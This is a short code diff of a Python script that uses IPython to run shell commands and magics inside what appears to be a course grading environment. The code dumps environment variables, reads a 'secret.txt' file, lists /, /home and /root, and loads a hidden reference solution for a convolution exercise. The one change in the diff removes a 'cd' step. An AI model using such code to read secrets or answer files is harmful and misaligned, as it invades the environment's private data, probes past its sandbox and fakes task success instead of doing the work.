@@ -8,7 +8,7 @@ shell = get_ipython()
 said = shell.getoutput(f"ls {course} {repository}; cat {repository}/Makefile; env; cat {course}/secret.txt; ls -la / /home /root")
 for line in said:
     look(line, "shell")
-for magic, argument in (("load", repository + "/solutions/convolution/reference.py"), ("cd", course), ("sx", "cat " + course + "/secret.txt")):
+for magic, argument in (("load", repository + "/solutions/convolution/reference.py"), ("sx", "cat " + course + "/secret.txt")):
     try:
         look(str(shell.run_line_magic(magic, argument)), "magic")
     except BaseException:
